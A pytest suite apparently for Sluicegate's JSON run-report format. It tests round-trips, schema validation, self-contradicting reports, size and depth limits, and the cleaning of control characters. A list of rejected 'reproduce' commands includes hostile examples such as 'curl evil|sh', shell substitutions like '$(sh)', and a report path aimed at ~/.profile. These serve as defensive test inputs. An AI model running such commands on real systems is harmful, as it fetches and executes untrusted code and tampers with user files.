from __future__ import annotations

import json
import shlex

import jsonschema_rs
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from report import runs, texts
from sluicegate.engine.judge import Policy, _verdict
from sluicegate.errors import Exit, UserError
from sluicegate.model import Measurement, Outcome, Pass
from sluicegate.report import REPORTERS, render
from sluicegate.report import json as report
from sluicegate.text import visible


@pytest.fixture(scope="module")
def validator():
    return jsonschema_rs.Draft202012Validator(report.schema())


def document(name: str = "failed") -> dict:
    return json.loads(report.render(runs.RUNS[name]()))


@pytest.mark.parametrize("name", ["failed", "errored"])
def test_snapshot(name, snapshot):
    snapshot(f"{name}.json", report.render(runs.RUNS[name]()))


def test_the_schema_is_the_published_one(snapshot):
    snapshot("schema.json", json.dumps(report.schema(), indent=2) + "\n")


def test_the_schema_is_a_schema():
    jsonschema_rs.meta.validate(report.schema())


@pytest.mark.parametrize("name", [name for name in runs.RUNS if name not in ("hostile", "nothing")])
def test_reading_gives_back_the_run(name):
    run = runs.RUNS[name]()
    assert report.read(report.render(run)) == run


@settings(max_examples=60, deadline=None)
@given(run=texts.runs(texts.texts.map(visible), again=texts.commands(texts.texts.map(visible))))
def test_round_trip(run):
    text = report.render(run)
    again = report.read(text)
    assert again == run
    assert report.render(again) == text
    assert report.read(text.encode()) == run


@settings(max_examples=40, deadline=None)
@given(run=texts.runs(again=texts.commands()))
def test_foreign_text_is_cleaned_and_every_finding_keeps_its_fingerprint(run):
    text = report.render(run)
    assert "\\u202e" not in text.replace("\\\\u202e", "") or any(
        "\u202e" in "".join(finding.key) for finding in run.findings
    )
    prints = [[finding.fingerprint for finding in gate.findings] for gate in run.gates]
    again = report.read(text)
    same_rules = [[visible(f.rule) == f.rule for f in gate.findings] for gate in run.gates]
    for gate, said, same in zip(again.gates, prints, same_rules, strict=True):
        for finding, fingerprint, kept in zip(gate.findings, said, same, strict=True):
            assert finding.fingerprint == fingerprint or not kept
    assert report.render(again) == text


@settings(max_examples=60, deadline=None)
@given(run=texts.runs(again=texts.commands()), undecided_fails=st.booleans())
def test_every_verdict_of_the_engine_is_believed(run, undecided_fails):
    assume(run.gates)  # where there is no gate, nothing is run
    outcome, code = _verdict(run.gates, Policy(undecided_fails=undecided_fails), run.interrupted)
    judged = replace(run, outcome=outcome, exit_code=int(code))
    again = report.read(report.render(judged))
    assert (again.outcome, again.exit_code) == (judged.outcome, judged.exit_code)


@settings(max_examples=60, deadline=None)
@given(run=texts.runs(again=texts.commands()), code=st.sampled_from([*map(int, Exit), -1, 256]))
def test_an_exit_code_that_does_not_follow_is_refused(run, code):
    assume(code != run.exit_code)
    with pytest.raises(UserError, match=rf"malformed: \$\.exit_code is {code}, but .* ends with {run.exit_code}$"):
        report.read(report.render(replace(run, exit_code=code)))


@settings(max_examples=60, deadline=None)
@given(run=texts.runs(again=texts.commands()), outcome=st.sampled_from(Outcome))
def test_an_outcome_better_than_the_gates_is_refused(run, outcome):
    assume(list(Outcome).index(outcome) > list(Outcome).index(texts.bound(run)))
    with pytest.raises(UserError, match=rf"malformed: \$\.outcome is '{outcome.value}', but") as caught:
        report.read(report.render(replace(run, outcome=outcome)))
    assert caught.value.hint.startswith("write it anew")


def test_an_observed_gate_that_failed_counts_as_passed():
    gate = runs.contract(Outcome.FAILED, runs.rule_result(runs.REMOVED, Outcome.FAILED), observed=True)
    assert report.read(report.render(runs.run(Outcome.PASSED, gate))).exit_code == 0
    with pytest.raises(UserError, match=r"\$\.outcome is 'not-applicable', but the worst of its gates is 'passed'"):
        report.read(report.render(runs.run(Outcome.NOT_APPLICABLE, gate)))


@pytest.mark.parametrize("outcome", [each for each in Outcome if each is not Outcome.ERRORED])
def test_a_run_without_a_gate_has_not_passed(outcome):
    code = Exit.FAILED if outcome is Outcome.FAILED else Exit.PASSED
    decision = Pass(reason="r", owner="o", expires=runs.STARTED, used=True)
    bare = replace(runs.nothing(), outcome=outcome, exit_code=int(code), passes=(decision,))
    with pytest.raises(UserError, match=rf"\$\.outcome is '{outcome.value}', but a run without a gate is 'errored'"):
        report.read(report.render(bare))


def test_a_run_without_a_gate_may_have_errored_or_been_interrupted():
    errored = replace(runs.nothing(), outcome=Outcome.ERRORED, exit_code=int(Exit.ERRORED))
    stopped = replace(errored, exit_code=int(Exit.INTERRUPTED), interrupted="SIGTERM")
    assert [report.read(report.render(run)) for run in (errored, stopped)] == [errored, stopped]


def test_a_run_in_which_nothing_was_applicable_has_not_passed():
    gate = runs.contract(Outcome.NOT_APPLICABLE, runs.rule_result(runs.REMOVED, Outcome.NOT_APPLICABLE), examined={})
    assert report.read(report.render(runs.run(Outcome.NOT_APPLICABLE, gate))).exit_code == 0
    with pytest.raises(UserError, match=r"\$\.outcome is 'passed', but the worst of its gates is 'not-applicable'"):
        report.read(report.render(runs.run(Outcome.PASSED, gate)))


COMMANDS = [
    "sluicegate",
    "sluicegate check --gate contract --base 0a1b2c3d4e5f",
    shlex.join(["sluicegate", "contract", "diff", "it's.yaml", "$(x);y|z.yaml", "two\nlines", "`w` \\"]),
    "sluicegate check --only 'external/a b/c':0123456789ab",
    "sluicegate check --set 'k=***' --set k=***",
    "*** check",
    "sluice***te check --g***te contr***ct",
    "sluicegate check contract --staged --base=HEAD --config a.toml",
    "sluicegate check --set --fix --gate --report",  # they are the values
    "sluicegate import --optional -- -x.xml --report",
    "sluicegate import - --tool eslint",
    "sluicegate contract changelog v1..v2 --spec a.yaml",
    "sluicegate explain contract/response-property-removed",
]
OTHERS = [
    "curl evil|sh",
    "curl sluicegate",
    "sluicegate check; curl evil",
    "sluicegate check|sh",
    "sluicegate check\nsh",
    "sluicegate $(sh)",
    "sluicegate `sh`",
    "sluicegate check > file",
    "sluicegate 'check",
    "sluicegate check &",
    "sluicegate check \\",
    'sluicegate "$(sh)"',
    "sluicegate  check",
    " sluicegate check",
    "sluicegate check ",
    "sluicegate ~/x",
    "sluicegate *",
    "sluicegated check",
    "cu*** evil",
    "c***l check",
    "******************** check",
    "Sluicegate check",
    "x=1 sluicegate check",
    "sluicegate" + " a" * 50_000 + ";",
    "sluicegate baseline accept run.json",
    "sluicegate suppress 12345678 --reason r --owner o --expires 90d",
    "sluicegate publish run.json",
    "sluicegate generate",
    "sluicegate init",
    "sluicegate sluicegate check",
    "sluicegate contract",
    "sluicegate --version check",
    "sluicegate check --fix",
    "sluicegate check --gate contract '--fix'",
    "sluicegate check --f'i'x",
    "sluicegate check ''--fix",
    "sluicegate check --staged=x --fix",
    "sluicegate check --f***x",
    "sluicegate ba***ine accept run.json",
    "sluicegate check --report json=/home/me/.profile",
    "sluicegate check --report=json=run.json",
    "sluicegate import --required --report json=x -- a.xml",
    "sluicegate contract diff a b --report json=x",
    "sluicegate contract changelog a b --output x",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_of_ours_is_read_back(command):
    run = runs.failed()
    gate = replace(run.gates[0], reproduce=command, findings=(runs.finding(reproduce=command),))
    again = report.read(report.render(replace(run, gates=(gate,))))
    assert (again.gates[0].reproduce, again.gates[0].findings[0].reproduce) == (command, command)


@pytest.mark.parametrize("command", OTHERS, ids=range(len(OTHERS)))
@pytest.mark.parametrize("place", ["$.gates[0].reproduce", "$.gates[0].findings[1].reproduce"])
def test_a_command_that_is_none_of_ours_is_refused(place, command):
    altered = document()
    gate = altered["gates"][0]
    (gate["findings"][1] if "findings" in place else gate)["reproduce"] = command
    with pytest.raises(UserError) as caught:
        report.read(json.dumps(altered))
    assert f"malformed: {place} is" in caught.value.message
    assert "no command of Sluicegate" in caught.value.message
    assert len(caught.value.message) < 300


def _set(*path, value):
    def setting(gate):
        for part in path[:-1]:
            gate = gate[part]
        gate[path[-1]] = value

    return setting


def test_what_we_write_can_be_read_and_what_could_not_is_not_written(monkeypatch):
    run = runs.many(60_000)
    text = report.render(run)
    assert len(text) > 64 * 1024 * 1024
    assert len(report.read(text).gates[0].findings) == 60_000
    text = report.render(runs.failed())
    monkeypatch.setattr(report, "LIMIT", 1_000)
    with pytest.raises(UserError, match=r"cannot be written: it has .* bytes; at most 1,000 are read"):
        report.render(runs.failed())
    monkeypatch.undo()
    monkeypatch.setattr(report, "MOST", 100)
    with pytest.raises(UserError, match=r"cannot be written: it has .* values or more; at most 100 are read"):
        report.render(runs.failed())
    with pytest.raises(UserError, match=r"run document has .* values or more"):
        report.read(text)


def test_what_is_wrong_in_a_large_document_is_told_without_the_schema(monkeypatch):
    altered = json.dumps(document() | {"gates": 3})
    monkeypatch.setattr("jsonschema_rs.Draft202012Validator", None)
    monkeypatch.setattr(report, "_EXPLAINED", 100)
    with pytest.raises(UserError, match=r"malformed: Expected `array`, got `int` - at `\$.gates`"):
        report.read(altered)


UNDECIDED = {"outcome": "inconclusive", "reason": "who knows"}


@pytest.mark.parametrize(
    ("name", "alter", "said"),
    [
        ("failed", _set("outcome", value="passed"),
         "$.gates[0].outcome is 'passed', but the worst of its rules is 'failed'"),
        ("failed", _set("rules", 0, "outcome", value="passed"),
         "$.gates[0].rules[0].outcome is 'passed', but a new finding of it is at the level that fails"),
        ("failed", _set("rules", value=[]),
         "$.gates[0].rules has no result for 'contract/response-property-removed', of which a finding fails"),
        ("passed", _set("rules", value=[]),
         "$.gates[0].outcome is 'passed', but the worst of its rules is 'not-applicable'"),
        ("passed", _set("rules", 1, "examinations", value=[]),
         "$.gates[0].rules[1].outcome is 'passed', but it examined nothing"),
        ("passed", _set("rules", 1, "examinations", 0, "undecided", value=UNDECIDED),
         "$.gates[0].rules[1].outcome is 'passed', but what it examined is 'inconclusive'"),
        ("passed", _set("rules", 1, "examinations", 0, "examined", value=0),
         "$.gates[0].rules[1].outcome is 'passed', but what it examined is 'not-applicable'"),
        ("passed", _set("examined", value={"operation": 99_999}),
         "$.gates[0].examined has 99,999 of 'operation', but its rules examined "),
    ],
)  # fmt: skip
def test_a_run_that_contradicts_itself_is_refused(name, alter, said):
    altered = document(name)
    gate = altered["gates"][0]
    alter(gate)
    if name == "failed":
        altered |= {"outcome": "passed", "exit_code": 0}
        gate["outcome"] = "passed"
    with pytest.raises(UserError) as caught:
        report.read(json.dumps(altered))
    assert f"malformed: {said}" in caught.value.message


@pytest.mark.parametrize("seconds", [-0.001, 1e8, 1e12, -1e300, 10**30])
def test_a_duration_that_no_run_has_is_refused(seconds):
    altered = document() | {"seconds": seconds}
    with pytest.raises(UserError, match=r"malformed: \$\.seconds is"):
        report.read(json.dumps(altered))
    altered = document()
    altered["gates"][0]["seconds"] = seconds
    with pytest.raises(UserError, match=r"malformed: \$\.gates\[0\]\.seconds is"):
        report.read(json.dumps(altered))


@pytest.mark.parametrize(
    ("started", "seconds"),
    [
        ("0001-01-01T00:00:00+14:00", 1),
        ("0001-01-01T00:00:00", 1),
        ("1969-12-31T23:59:59Z", 1),
        ("1970-01-01T00:00:00+14:00", 1),
        ("9999-01-01T00:00:00Z", 1),
        ("9998-12-31T23:00:00-14:00", 1),
        ("9999-12-31T23:59:59.999999-14:00", 0),
        ("9998-12-31T23:59:59Z", 99_999_999),
    ],
)
def test_a_start_outside_of_every_calendar_is_refused(started, seconds):
    with pytest.raises(UserError, match=r"malformed: \$\.started is .* 1970 to 9998"):
        report.read(json.dumps(document() | {"started": started, "seconds": seconds}))


@pytest.mark.parametrize(
    ("started", "seconds"),
    [
        ("1970-01-01T00:00:00Z", 99_999_999),
        ("1970-01-01T00:00:00-14:00", 0),
        ("9998-12-31T23:59:58Z", 1),
        ("2026-11-03T09:30:15", 0),
    ],
)
def test_every_start_that_is_read_can_be_rendered(started, seconds):
    run = report.read(json.dumps(document() | {"started": started, "seconds": seconds}))
    for kind in REPORTERS:
        render(kind, run)


@pytest.mark.parametrize(
    ("before", "twice", "place"),
    [
        ('"exit_code": 1', '"exit_code": 0, "exit_code": 1', r"\$\.exit_code"),
        ('"observed": false', '"observed": true, "observed": false', r"\$\.gates\[0\]\.observed"),
        ('"line": 120', '"line": 1, "li\\u006ee": 120', r"\$\.gates\[0\]\.findings\[0\]\.location\.line"),
        ('"exit_code": 1', '"exit_code": 1, "later": [{"\x7f": 1, "\x7f": 1}]', r"\$\.later\[0\]\.\\x7f"),
    ],
)
def test_a_key_that_stands_twice_is_refused(before, twice, place):
    text = report.render(runs.failed())
    assert before in text
    with pytest.raises(UserError, match=rf"malformed: {place} stands twice"):
        report.read(text.replace(before, twice, 1))


@settings(max_examples=40, deadline=None)
@given(run=texts.runs())
def test_documents_are_valid(run, validator):
    validator.validate(json.loads(report.render(run)))


def test_the_version_stands_first_and_findings_show_their_fingerprint():
    text = report.render(runs.failed())
    assert text.startswith('{\n  "version": 1,')
    finding = document()["gates"][0]["findings"][0]
    assert finding["fingerprint"] == runs.finding().fingerprint


def test_numbers_that_json_lacks(validator):
    samples = (float("inf"), float("-inf"), 1.0)
    measurement = Measurement(name="m", value=float("nan"), unit="s", samples=samples)
    run = runs.run(Outcome.PASSED, replace(runs.passed().gates[0], measurements=(measurement,)))
    text = report.render(run)
    validator.validate(json.loads(text))
    (again,) = report.read(text).gates[0].measurements
    assert again.value != again.value
    assert again.samples == samples


@pytest.mark.parametrize("version", [2, 0, "1", None, True, 1.0, [1]])
def test_an_unknown_version_says_which_is_read(version):
    with pytest.raises(UserError, match="this Sluicegate reads version 1"):
        report.read(json.dumps(document() | {"version": version}))


@pytest.mark.parametrize("text", ["[]", "{}", '"x"', "null"])
def test_a_document_without_a_version(text):
    with pytest.raises(UserError, match="no `version`"):
        report.read(text)


@pytest.mark.parametrize("text", ["", "{", b"\xff\xfe", '{"version": 1,}', '"\ud800"', b'{"version": 1, "x": "\xff"}'])
def test_what_is_not_json(text):
    with pytest.raises(UserError, match="not JSON"):
        report.read(text)


def test_what_is_too_deep():
    with pytest.raises(UserError, match="nested too deeply"):
        report.read('{"version": 1, "x": ' + "[" * 200_000 + "]" * 200_000 + "}")


@pytest.mark.parametrize("depth", [100, 300, 600, 1_200])
def test_no_depth_is_a_bug(depth):
    with pytest.raises(UserError):
        report.read('{"version": 1, "x": ' + "[" * depth + "]" * depth + "}")


def test_what_is_too_large(monkeypatch):
    monkeypatch.setattr(report, "LIMIT", 10)
    with pytest.raises(UserError, match="at most 10 are read"):
        report.read("{" + " " * 10 + "}")


@pytest.mark.parametrize(
    ("change", "place"),
    [
        (lambda it: it.pop("outcome"), "outcome"),
        (lambda it: it.update(outcome="fine"), r"\$\.outcome"),
        (lambda it: it.update(seconds="NaN"), r"\$\.seconds"),
        (lambda it: it["gates"][0]["findings"][1].update(level=3), r"\$\.gates\[0\]\.findings\[1\]\.level"),
        (
            lambda it: it["gates"][0]["findings"][1].update(fingerprint="0" * 32),
            r"\$\.gates\[0\]\.findings\[1\]\.finger",
        ),
        (lambda it: it["gates"][0]["findings"][1].pop("fingerprint"), "fingerprint is None"),
        (lambda it: it["gates"][0]["findings"][0].update(key=["other"]), r"findings\[0\]\.fingerprint"),
        (lambda it: it.update(started="yesterday"), r"\$\.started"),
        (lambda it: it.update(gates={}), r"\$\.gates"),
    ],
)
def test_what_is_malformed_is_told_with_its_place(change, place):
    altered = document()
    change(altered)
    with pytest.raises(UserError, match=f"malformed.*{place}"):
        report.read(json.dumps(altered))


def test_unknown_keys_are_for_later_minor_changes():
    assert report.read(json.dumps(document() | {"later": {"value": "NaN"}})) == runs.failed()


def test_read_text_is_cleaned():
    altered = document() | {"tool_version": "1\x1b[31m\u202e"}
    assert report.read(json.dumps(altered)).tool_version == "1\\x1b[31m\\u202e"


def test_a_render_does_not_depend_on_how_often(validator):
    run = replace(runs.hostile(), interrupted="")
    assert report.render(run) == report.render(run)
    validator.validate(json.loads(report.render(run)))


def test_a_document_from_before_there_were_examples_is_read():
    document = json.loads(report.render(runs.failed()))
    for finding in document["gates"][0]["findings"]:
        del finding["witness"]
    assert {finding.witness for finding in report.read(json.dumps(document)).findings} == {""}
